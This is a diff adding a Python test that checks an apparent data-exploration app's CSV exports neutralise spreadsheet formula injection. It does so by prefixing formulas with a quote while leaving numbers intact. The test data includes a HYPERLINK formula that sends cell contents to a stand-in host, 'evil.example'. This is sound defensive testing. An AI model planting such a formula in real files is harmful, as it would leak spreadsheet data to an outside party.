@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 
 import numpy as np
@@ -266,3 +267,21 @@ def test_a_number_by_a_category_shows_as_box_plots():
     assert any(
         "Quartiles of petal length (cm) within the 3 most frequent values of target" in c.value for c in at.caption
     )
+
+
+def test_a_chart_csv_opens_as_data_in_a_spreadsheet(downloads):
+    link = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    table = pd.DataFrame({"link": [link, link, link, "@SUM(1+1)", "@SUM(1+1)", "plain"], "amount": range(-3, 3)})
+    buffer = io.BytesIO()
+    table.to_parquet(buffer)
+    catalog = Catalog()
+    load_file(catalog, Source.from_bytes("links.parquet", buffer.getvalue()), available_engines())
+    at = open_tab(explore(catalog), "Columns")
+    assert not problems(at)
+    assert at.selectbox(key="explore_column").value == "link"
+    rows = list(csv.reader(io.StringIO(downloads.data(at, "col_0_top_csv").decode(), newline="")))
+    values = [row[0] for row in rows[1:]]
+    assert values[:2] == ["'" + link, "'@SUM(1+1)"] and "plain" in values, "formulas are written as text"
+    at.selectbox(key="explore_column").set_value("amount").run()
+    rows = list(csv.reader(io.StringIO(downloads.data(at, "col_1_hist_csv").decode(), newline="")))
+    assert rows[1][0].startswith("-3"), "numbers stay numbers, minus sign and all"
